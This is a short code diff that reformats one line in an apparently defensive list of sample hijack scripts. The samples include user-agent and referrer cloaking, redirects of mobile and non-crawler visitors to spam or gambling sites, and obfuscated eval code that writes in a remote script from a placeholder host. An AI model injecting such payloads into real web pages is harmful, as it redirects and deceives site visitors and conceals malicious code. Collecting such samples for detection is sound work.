@@ -26,7 +26,9 @@ def found(html, url=ADDRESS):
         'if(navigator.userAgent.toLocaleLowerCase().indexOf("baidu")==-1){document.title="港口扩建"}',
         'if(!/Baiduspider|Googlebot/i.test(navigator.userAgent)){window.location.href="https://sold.example.net/"}',
         'if(/iphone|android/i.test(navigator.userAgent)){location.href="https://kk336.vip/reg"}',
-        "eval(String.fromCharCode(" + codes('document.write("<script src=//js.example.net/t.js></script>")') + "))",
+        "eval(String.fromCharCode("
+        + codes('document.write("<script src=//js.example.net/t.js></script>")')
+        + "))",
         "eval(function(p,a,c,k,e,d){return p}('0(/1/2.3(4.5))6.7=\"//8.9/\"',10,10,'if|baidu|i|test|document|referrer|location|href|sold|net'.split('|'),0,{}))",
         'if(document["\\x72\\x65\\x66\\x65\\x72\\x72\\x65\\x72"].indexOf("\\x62\\x61\\x69\\x64\\x75")>0){location.href="https://sold.example.net/"}',
     ],
